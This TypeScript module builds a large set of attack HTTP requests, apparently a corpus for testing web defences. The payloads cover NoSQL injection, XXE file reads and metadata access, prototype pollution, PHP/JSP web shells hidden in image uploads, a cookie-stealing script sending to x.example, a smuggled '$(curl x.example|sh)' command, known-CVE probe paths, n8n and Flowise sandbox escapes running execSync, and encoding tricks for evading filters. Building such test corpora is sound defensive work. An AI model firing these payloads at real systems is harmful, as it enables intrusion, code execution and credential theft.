/** Attacks that are whole requests: the second part. */
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import type { Whole } from '../attack-set.ts';
import type { Chance } from '../chance.ts';
import { multipart } from '../visit.ts';
import { type WholeWriter, wholeWriter } from '../whole.ts';

const form = 'application/x-www-form-urlencoded';
const enc = encodeURIComponent;

/** Every whole attack of the second part. */
export function secondWholes(chance: Chance): readonly Whole[] {
  const to = wholeWriter(chance);
  for (const write of [nosqli, xxe, prototype, upload, scanner, advisory, protocol]) write(to, chance);
  return to.all;
}

function nosqli(to: WholeWriter): void {
  to.as({ class: 'nosqli', technique: 'nested operators' });
  for (const name of ['email', 'login', 'pin', 'resetToken', 'data[user]', 'accessCode']) {
    for (const operator of [
      '$gte',
      '$lt',
      '$not][$eq',
      '$elemMatch][$ne',
      '$options',
      '$or][0][a',
      '$size',
      '$type',
      '$mod][0',
      '$eq',
    ]) {
      if (operator === '$options' || operator === '$eq') continue;
      to.get(`/api/find?limit=1&${enc(name)}[${operator}]=0`);
      to.send(
        '/session',
        form,
        `${name}%5B%24${operator.slice(1).replaceAll('[', '%5B').replaceAll(']', '%5D')}%5D=~&x=1`,
      );
      to.json('/v2/session', {
        [name]: operator.split('][').reduceRight<unknown>((inner, key) => ({ [key]: inner }), 'x'),
      });
    }
  }
  to.as({ class: 'nosqli', technique: 'in text' });
  for (const body of [
    { query: '{"user":{"$ne":1},"pass":{"$ne":1}}' },
    { pipeline: [{ $lookup: { from: 'users', pipeline: [], as: 'u' } }] },
    { update: { $set: { role: 'admin' }, $unset: { pin: 1 } } },
    { $where: { $code: 'while(1);' } },
    { filter: { a: { $not: { $in: [] } } } },
  ]) {
    for (const path of ['/api/q', '/users/search', '/v1/db']) to.json(path, body);
    to.get(`/api/q?filter=${enc(JSON.stringify(body))}`);
  }
}

function xxe(to: WholeWriter, chance: Chance): void {
  const hosts = [
    'file:///etc/hostname',
    'file:///proc/self/environ',
    'http://127.0.0.1:8500/',
    'netdoc:///etc/hosts',
    'https://x.example/e.dtd',
    'gopher://10.0.0.1:25/x',
    'file:///C:/boot.ini',
    'http://metadata.google.internal/',
  ];
  for (const at of hosts) {
    const docs = [
      `<?xml version='1.0' standalone="no"?>\n<!DOCTYPE\n  data\n  [\n<!ENTITY\tsecret\tSYSTEM\t'${at}'>\n]>\n<data>&secret;</data>`,
      `<!DOCTYPE q PUBLIC "-//W3C//X" "${at}"><q/>`,
      `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % a PUBLIC 'x' '${at}'>%a;%b;%c;]><m>1</m>`,
      `<?xml version="1.0"?><!--c--><!DOCTYPE svg [<!ENTITY e SYSTEM "${at}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
      `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${at}"/></foo>`,
      `<?xml version="1.0"?><?xml-stylesheet type="text/xml" href="${at}"?><!DOCTYPE x [<!ATTLIST x a CDATA "b"><!NOTATION n SYSTEM "${at}"><!ENTITY z SYSTEM "${at}" NDATA n>]><x a="z"/>`,
    ];
    for (const doc of docs) {
      to.as({ class: 'xxe', technique: 'body' });
      to.send('/xmlrpc', 'application/xml;charset=UTF-8', doc);
      to.send(
        '/rss/add',
        chance.pick(['application/rss+xml', 'image/svg+xml', 'application/soap+xml', 'text/xml']),
        doc,
      );
      to.as({ class: 'xxe', technique: 'field or file' });
      to.get(`/render?xml=${enc(doc)}`);
      const { type, body } = multipart(
        [
          {
            name: 'doc',
            value: doc,
            filename: chance.pick(['logo.svg', 'sheet.xml', 'o.docx.xml']),
            type: 'image/svg+xml',
          },
        ],
        chance,
      );
      to.send('/media', type, body);
      to.json('/api/parse', { input: doc });
      to.as({ class: 'xxe', technique: 'coded' });
      to.send('/xml', 'application/xml; charset=utf-16', Buffer.from(`\ufeff${doc}`, 'utf16le'));
    }
  }
}

function prototype(to: WholeWriter): void {
  for (const [name, value] of [
    ['admin', 1],
    ['env', { NODE_OPTIONS: '--inspect=0.0.0.0' }],
    ['execArgv', ['--eval=1']],
    ['block', { type: 'Text', line: 'console.log(process.env)' }],
    ['client', true],
    ['escapeFunction', 'x'],
    ['allowedTags', 'script'],
    ['srcdoc', '<script>alert(1)</script>'],
    ['sourceURL', '\u2028'],
    ['hasOwnProperty', 'x'],
  ] as const) {
    const text = JSON.stringify(value);
    to.as({ class: 'prototype', technique: 'JSON' });
    to.json('/api/v1/prefs', `{"theme":{"__proto__":{"${name}":${text}}},"ok":1}`);
    to.json('/api/graph', {
      variables: { input: JSON.parse(`{"constructor":{"prototype":{"${name}":${text}}}}`) as object },
    });
    to.json('/u', `{"\\u005f\\u005fproto\\u005f\\u005f":{"${name}":${text}}}`);
    to.json('/set', { key: `a.__proto__.${name}`, val: value });
    to.json('/set', { keys: ['__proto__', name], value });
    to.json('/patch', [{ op: 'add', path: `/constructor/prototype/${name}`, value }]);
    to.json('/patch', [{ op: 'add', path: `/__proto__/${name}`, value }]);
    to.json('/wrap', { payload: `{"__proto__":{"${name}":${text}}}` });
    to.as({ class: 'prototype', technique: 'names' });
    for (const key of [
      `__proto__.x.${name}`,
      `a.constructor.prototype.${name}`,
      `__proto__[x][${name}]`,
      `[__proto__][${name}]`,
      `constructor.prototype[${name}]`,
      `a[0][__proto__][${name}]`,
    ]) {
      to.get(`/list?sort=a&${enc(key)}=1`);
      to.send('/form', form, `x=1&${key.replaceAll('_', '%5f')}=1`);
    }
    const made = multipart([{ name: `__proto__[${name}]`, value: '1' }], { ...nameless });
    to.as({ class: 'prototype', technique: 'multipart name' });
    to.send('/form', made.type, made.body);
    to.as({ class: 'prototype', technique: 'XML', site: 'n8n' });
    to.send(
      '/webhook/feed',
      'text/xml',
      `<?xml version="1.0"?><r><constructor><prototype><${name}>1</${name}></prototype></constructor></r>`,
    );
  }
}
const nameless = {
  below: () => 1,
  pick: <T>(list: readonly T[]): T => list[0] as T,
  word: () => 'Abc123xyz0987654',
  hex: () => 'ab',
  uuid: () => 'u',
};

function upload(to: WholeWriter, chance: Chance): void {
  const put = (filename: string, value: string | Buffer, type: string): void => {
    for (const [path, name] of [
      ['/media/new', 'media'],
      ['/wp-admin/async-upload.php', 'async-upload'],
      ['/api/v3/attachments', 'attachment'],
    ] as const) {
      const made = multipart(
        [
          { name, value, filename, type },
          { name: 'n', value: '1' },
        ],
        chance,
      );
      to.send(path, made.type, made.body);
    }
  };
  to.as({ class: 'upload', technique: 'server side names' });
  for (const name of [
    'a.phar',
    'b.pht',
    'c.php7',
    'd.phps.php',
    'e.shtml',
    'f.jspx',
    'g.jspf',
    'h.ashx',
    'i.asmx',
    'j.cer',
    'k.cfm',
    'l.war',
    'm.php::$DATA',
    'n.aSpX',
    'o.php/',
    'p.php ',
    'q.inc.php',
    'r.module.php',
    's.phtm',
    't.ascx',
  ])
    put(name, 'x', 'image/png');
  to.as({ class: 'upload', technique: 'programs inside' });
  const png = Buffer.from('89504e470d0a1a0a', 'hex').toString('latin1');
  for (const body of [
    `\xff\xd8\xff\xe0<?php echo \`id\`;?>`,
    `${png}<?=system($_GET[1])?>`,
    'BM<?php @eval($_POST["a"]);?>',
    '%PDF-1.4\n<?php include($_GET["f"]);?>',
    'GIF87a\n<script language="php">system("id")</script>',
    '<%= Runtime.getRuntime().exec(request.getParameter("x")) %>',
    '<jsp:scriptlet>Runtime.getRuntime().exec("id");</jsp:scriptlet>',
    '<%@ WebHandler Language="C#" Class="H" %>',
    '<cfexecute name="id"/>',
    '<!--#exec cmd="id" -->',
  ])
    for (const name of ['pic.png', 'doc.pdf', 'a.gif']) put(name, Buffer.from(body, 'latin1'), 'image/gif');
  to.as({ class: 'upload', technique: 'pages and places' });
  for (const [name, body] of [
    ['a.svg', '<svg><script href="data:,alert(1)"/></svg>'],
    ['b.html', '<script>fetch("//x.example?"+document.cookie)</script>'],
    ['c.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
    [
      'd.xsl',
      '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:stylesheet>',
    ],
    ['....//....//x.jsp', 'x'],
    ['%2e%2e%2fx.php', 'x'],
    ['C:\\inetpub\\wwwroot\\a.asp', 'x'],
    ['../.ssh/authorized_keys', 'ssh-rsa AAAA'],
    ['.htaccess', 'SetHandler application/x-httpd-php'],
    ['crossdomain.xml', '<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>'],
    ['a.lnk', 'x'],
    [
      'push graphic-context.mvg',
      'push graphic-context\nfill \'url(https://x.example/a.jpg"|id")\'\npop graphic-context',
    ],
    ['x.eps', '%!PS\n(%pipe%id) (w) file'],
    ['a.url', '[InternetShortcut]\nURL=file://x.example/a'],
  ] as const)
    put(name, body, 'text/plain');
}

function scanner(to: WholeWriter, chance: Chance): void {
  to.as({ class: 'scanner', technique: 'tools' });
  for (const agent of [
    'sqlninja/0.2',
    'jaeles v0.17',
    'Mozilla/5.0 Jorgee',
    'dirsearch/0.4',
    'whatweb/0.5.5',
    'Wfuzz/3.1.0',
    'httpx - Open-source project (github.com/projectdiscovery/httpx)',
    'commix/v3.9-stable (https://commixproject.com)',
    'XSpider',
    'Havij',
    'skipfish/2.10b',
    'Mozilla/5.0 (compatible; Netsparker)',
    'Qualys WAS',
    'Detectify',
    'fimap.googlecode.com/v09',
    'joomscan',
    'CMSmap',
    'Fuzz Faster U Fool v1.5',
    'l9explore/1.2.2',
    'zaproxy',
  ])
    for (const path of ['/', `/?${chance.word(4)}=1`, '/login', `/${chance.word(5)}.bak`])
      to.get(path, { 'user-agent': agent });
  to.as({ class: 'scanner', technique: 'left behind' });
  for (const path of [
    '/.env.local',
    '/.env.bak',
    '/.gitlab-ci.yml',
    '/.git/index',
    '/.hg/hgrc',
    '/.bzr/README',
    '/.idea/workspace.xml',
    '/.dockerenv',
    '/Dockerfile',
    '/wp-config.php~',
    '/wp-config.php.save',
    '/config.inc.php.swp',
    '/.config.php.swp',
    '/site.tar.gz',
    '/backup.zip',
    '/www.rar',
    '/database.sql',
    '/users.csv.bak',
    '/info.php',
    '/test.php',
    '/server-info',
    '/elmah.axd',
    '/trace.axd',
    '/jolokia/list',
    '/actuator/gateway/routes',
    '/debug/pprof/heap',
    '/metrics/../env',
    '/.kube/config',
    '/.terraform/terraform.tfstate',
    '/id_ed25519',
    '/private.key',
    '/.mysql_history',
    '/appsettings.Development.json',
    '/WEB-INF/classes/x.class',
    '/META-INF/context.xml',
    '/telescope/requests',
    '/_profiler/phpinfo',
  ])
    for (const prefix of ['', '/v1', '/old']) to.get(`${prefix}${path}`);
  to.as({ class: 'scanner', technique: 'known holes' });
  for (const path of [
    '/cgi-bin/php?-d+allow_url_include%3d1',
    '/cgi-bin/.%2e/.%2e/bin/sh',
    '/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___',
    '/tmUnblock.cgi',
    '/wls-wsat/CoordinatorPortType',
    '/_async/AsyncResponseService',
    '/invoker/JMXInvokerServlet',
    '/jmx-console/',
    '/axis2/services/Version',
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo',
    '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
    '/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd',
    '/vpn/../vpns/cfg/smb.conf',
    '/mgmt/tm/util/bash',
    '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp',
    '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
    '/druid/index.html',
    '/nacos/v1/auth/users?pageNo=1',
    '/ReportServer/Pages/x',
    '/telerik.web.ui.webresource.axd?type=rau',
    '/webui/?g=sec',
    '/hudson/script',
    '/phpMyAdmin-2.11.0/index.php',
    '/autodiscover/autodiscover.json?@x.example/mapi/nspi',
  ])
    to.get(path);
}

function advisory(to: WholeWriter, chance: Chance): void {
  to.as({ class: 'advisory', technique: 'file objects', site: 'n8n' });
  for (const path of ['/form/signup', '/webhook/contact', '/form-test/a', '/form-waiting/12'])
    for (const file of ['/etc/shadow', '/root/.n8n/config', '/home/node/.cache/x'])
      to.send(
        `${path}-${chance.hex(4)}`,
        chance.pick(['application/json; charset=utf-8', 'APPLICATION/JSON']),
        JSON.stringify({
          files: { cv: [{ filepath: file, newFilename: 'a', mimetype: 'image/png', size: 9 }] },
          data: { a: 1 },
        }),
      );
  to.as({ class: 'advisory', technique: 'expressions in form fields', site: 'n8n' });
  for (const text of [
    '=={{ global.process.version }}',
    "={{ $('x').constructor.constructor('return this')() }}",
    "= {{ this['constr'+'uctor'] }}",
    '={{$workflow.constructor.constructor("return process.env")()}}',
  ]) {
    const made = multipart([{ name: 'field-0', value: text }], chance);
    to.send(`/form/${chance.uuid()}`, made.type, made.body);
    to.send(`/form-waiting/${chance.below(99)}`, form, `field-0=${enc(text)}`);
  }
  const set = (value: string): string =>
    JSON.stringify({
      name: 'a',
      nodes: [
        {
          parameters: { assignments: { assignments: [{ name: 'x', value, type: 'string' }] } },
          type: 'n8n-nodes-base.set',
          typeVersion: 3.4,
          position: [1, 1],
          id: chance.uuid(),
          name: 'S',
        },
      ],
      connections: {},
      settings: { executionOrder: 'v1' },
    });
  to.as({ class: 'advisory', technique: 'expression escape', site: 'n8n', who: 'editor' });
  for (const value of [
    '={{ (() => {}).constructor(`return process`)().mainModule.require(`child_process`).execSync(`id`) }}',
    '={{ Reflect.getPrototypeOf(function*(){}).constructor("return process.env")() }}',
    "={{ ({})[`const${''}ructor`][`constructor`]('return globalThis')() }}",
    "={{ [].map.constructor('return this.process.mainModule')() }}",
    "={{ $json.constructor['__proto__']['constructor']('return process.binding(\"fs\")')() }}",
  ])
    for (const [method, path] of [
      ['POST', '/rest/workflows'],
      ['POST', `/rest/workflows/${chance.word(16)}/run`],
      ['PUT', `/api/v1/workflows/${chance.word(16)}`],
    ] as const)
      to.send(path, 'application/json', path.endsWith('run') ? `{"workflowData":${set(value)}}` : set(value), {
        method,
      });
  to.as({ class: 'advisory', technique: 'settings', site: 'n8n', who: 'editor' });
  to.send('/rest/me/settings', 'application/json', '{"allowSSOManualLogin":true}', { method: 'PATCH' });
  to.as({ class: 'advisory', technique: 'XML and open routes', site: 'n8n' });
  to.send('/webhook/xml', 'application/xml', '<a><__proto__ x="1"><b>c</b></__proto__></a>');
  to.json('/mcp-oauth/register', {
    client_name: '<img src=x onerror=alert(1)>',
    redirect_uris: ['javascript:alert(1)'],
  });
  to.json('/rest/owner/setup', { email: 'x@x.example', password: 'Aa123456', firstName: 'a', lastName: 'b' });
  to.get('/metrics');
  to.as({ class: 'advisory', technique: 'custom MCP', site: 'flowise' });
  for (const config of [
    "({a:(()=>{return process.mainModule.require('child_process').execSync('id')})()})",
    '{"x":(async()=>{}).constructor("return process")()}',
    { command: 'python3', args: ['-c', 'import os'] },
    { command: 'bash', args: ['-lc', 'id'], env: { A: '1' } },
    { command: 'npx', args: ['--yes', 'x'] },
    '{ "command" : "uvx", "args": ["x"] }',
  ])
    for (const path of [
      '/api/v1/node-load-method/customMCP',
      '/api/v1/node-load-method/customMCP/',
      '/api/v1/Node-Load-Method/CustomMCP',
    ])
      to.json(
        path,
        { inputs: { mcpServerConfig: config }, loadMethod: 'listActions' },
        { 'X-Request-From': 'internal' },
      );
  to.as({ class: 'advisory', technique: 'paths and ids', site: 'flowise' });
  for (const dots of ['../..', '..%2f..%2f..', '../../../../root/.flowise', '..\\..\\..', '/etc']) {
    to.get(`/api/v1/get-upload-file?chatflowId=${chance.uuid()}&chatId=${enc(dots)}&fileName=a`);
    to.json('/api/v1/openai-assistants-file/download', { fileName: `${dots}/passwd` });
    const made = multipart(
      [{ name: 'files', value: 'x', filename: `${dots}/api.json`, type: 'application/json' }],
      chance,
    );
    to.send(`/api/v1/attachments/${chance.uuid()}/${enc(dots)}`, made.type, made.body);
  }
  to.as({ class: 'advisory', technique: 'accounts and nim', site: 'flowise' });
  to.json('/api/v1/account/register', { user: { name: 'x', email: 'x@x.example', credential: 'Aa1!aaaa' } });
  to.json('/api/v1/account/forgot-password', { user: { email: 'ceo@example.com' } });
  to.json('/api/v1/account/reset-password', {
    user: { email: 'ceo@example.com', tempToken: '', password: 'Aa1!aaaa' },
  });
  for (const path of [
    '/api/v1/nvidia-nim/get-token',
    '/api/v1/nvidia-nim/list-running-containers',
    '/api/v1/apikey/../credentials',
    '/API/v1/Variables',
    '/api/v1/chatflows?x=/api/v1/public-chatflows',
  ])
    to.get(path);
  for (const code of [
    'return globalThis.process.getBuiltinModule("fs").readdirSync("/")',
    '(function f(){ try { f() } catch (e) { return e.constructor.constructor("return process")() } })()',
  ])
    to.json('/api/v1/node-custom-function', { javascriptFunction: code });
}

function protocol(to: WholeWriter, chance: Chance): void {
  for (const bad of [
    "-1' union all select null,table_name from information_schema.tables#",
    '"><img src=x onerror=alert(1)>',
    '$(curl x.example|sh)',
    "' or '1'='1",
    '../../../../../../etc/shadow',
  ]) {
    const text = JSON.stringify(bad);
    to.as({ class: 'protocol', technique: 'JSON' });
    for (const body of [
      `{"id":1,"id":${text}}`,
      `{"i\\u0064":1,"id":${text}}`,
      `{"a":1}{"q":${text}}`,
      `{"q":${text}} //`,
      `{q:${text}}`,
      `{"a":[1,],"q":${text}}`,
      `{"a":Infinity,"q":${text}}`,
      `{"a":0x10,"q":${text}}`,
      `{"q":"\\x41","r":${text}}`,
      `{"a":"\t","q":${text}}`,
      `\u000b{"q":${text}}`,
      `["${Buffer.from(bad).toString('base64')}"]`,
    ])
      to.json('/v1/query', body);
    to.send('/v1/query', 'application/json', Buffer.from(`{"q":${text}}`, 'utf16le'));
    to.send(
      '/v1/query',
      'application/json; charset=utf-32',
      Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(`{"q":${text}}`, 'utf16le')]),
    );
    to.send(
      '/v1/query',
      'application/json',
      Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc0, 0xaf, 0xff]), Buffer.from(`","q":${text}}`)]),
    );
    to.as({ class: 'protocol', technique: 'codings' });
    for (const [coding, bytes] of [
      ['br', brotliCompressSync(`{"q":${text}}`)],
      ['deflate', deflateSync(`{"q":${text}}`)],
      ['x-gzip', gzipSync(`{"q":${text}}`)],
      ['deflate, gzip', gzipSync(deflateSync(`{"q":${text}}`))],
      ['gzip;q=1', gzipSync(`{"q":${text}}`)],
      ['identity, gzip', gzipSync(`{"q":${text}}`)],
      ['compress', Buffer.from(text)],
      ['zstd', Buffer.from(text)],
    ] as const)
      to.send('/v1/query', 'application/json', bytes, { headers: { 'content-encoding': coding } });
    to.as({ class: 'protocol', technique: 'multipart' });
    const b = `q${chance.hex(6)}`;
    const named = 'Content-Disposition: form-data; name="q"';
    for (const [type, body] of [
      [
        `multipart/form-data; boundary=${b}`,
        `--${b}\r\n${named}\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n${bad}\r\n--${b}--\r\n`,
      ],
      [
        `multipart/form-data; boundary=${b}`,
        `--${b}\r\nContent-Disposition: form-data; name="q"; name="z"\r\n\r\n${bad}\r\n--${b}--\r\n`,
      ],
      [
        `multipart/form-data; boundary=${b}`,
        `--${b}\r\ncontent-disposition:form-data;name=q\r\n\r\n${bad}\r\n--${b}--`,
      ],
      [
        `multipart/form-data; boundary=${b}`,
        `--${b}\r\n${named}\r\n\r\nok\r\n--${b} \r\n${named}\r\n\r\n${bad}\r\n--${b}--\r\n`,
      ],
      [`multipart/form-data; boundary=${b}`, `--${b}\r\n${named};\r\n filename="a.txt"\r\n\r\n${bad}\r\n--${b}--\r\n`],
      [`multipart/form-data; boundary=${b}`, `--${b}--\r\n--${b}\r\n${named}\r\n\r\n${bad}\r\n--${b}--\r\n`],
      [`multipart/form-data; boundary=${b},${b}x`, `--${b}\r\n${named}\r\n\r\n${bad}\r\n--${b}--\r\n`],
      [`multipart/form-data; charset=utf-16; boundary=${b}`, `--${b}\r\n${named}\r\n\r\n${bad}\r\n--${b}--\r\n`],
      [`multipart/form-data; boundary*0=q; boundary=${b}`, `--${b}\r\n${named}\r\n\r\n${bad}\r\n--${b}--\r\n`],
      [`multipart/mixed; boundary=${b}`, `--${b}\r\n${named}\r\n\r\n${bad}\r\n--${b}--\r\n`],
      [
        `multipart/form-data; boundary=${b}`,
        `--${b}\r\nContent-Type: multipart/mixed; boundary=in\r\n${named}\r\n\r\n--in\r\n\r\n${bad}\r\n--in--\r\n--${b}--\r\n`,
      ],
      [
        `multipart/form-data; boundary=${b}`,
        `--${b}\r\n${named}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${[...Buffer.from(bad)].map(byte => `=${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('')}\r\n--${b}--\r\n`,
      ],
    ] as const)
      to.send('/v1/form', type, body);
    to.as({ class: 'protocol', technique: 'targets and names' });
    const over = [...Buffer.from(bad)]
      .map(byte => `%e0%${(0x80 | (byte >> 6)).toString(16)}%${(0x80 | (byte & 0x3f)).toString(16)}`)
      .join('');
    for (const target of [
      `/v1/query?q=${over}`,
      `/v1/query?a=%zz&q=${enc(bad)}`,
      `/v1/query?a=1%26q%3D${enc(enc(bad))}`,
      `/v1/query?q=%ff${enc(bad)}`,
      `/v1/query?q=a&Q=${enc(bad)}`,
      `/v1/query?q[=${enc(bad)}`,
      `/v1/query?q%00=${enc(bad)}`,
      `/v1/query?%20q=${enc(bad)}`,
      `/v1/query/%2e;x=${enc(bad)}`,
      `/v1/query?_method=DELETE&q=${enc(bad)}`,
    ])
      to.get(target);
    to.as({ class: 'protocol', technique: 'types' });
    for (const [type, body] of [
      ['application/jsonp', `cb({"q":${text}})`],
      ['text/json', `{"q":${text}}`],
      ['application/x-www-form-urlencoded; charset=utf-16', `q=${enc(bad)}`],
      [
        'application/x-www-form-urlencoded',
        `q=${Array.from(bad)
          .map(char => `%u00${char.charCodeAt(0).toString(16).padStart(2, '0')}`)
          .join('')}`,
      ],
      ['application/x-yaml', `q: ${text}`],
      ['application/vnd.api+json', `{"data":{"attributes":{"q":${text}}}}`],
      ['', `q=${bad}`],
      ['application/json, text/plain', `{"q":${text}}`],
      ['text/xml', `<q a="${bad.replace(/["<&]/g, char => `&#${char.charCodeAt(0)};`)}"/>`],
      ['application/json\t;charset=utf-7', `{"q":${text}}`],
    ] as const)
      to.send('/v1/query', type, body);
    to.get('/v1/query', { 'x-http-method': 'DELETE', 'x-rewrite-url': `/admin/${enc(bad)}` });
  }
}
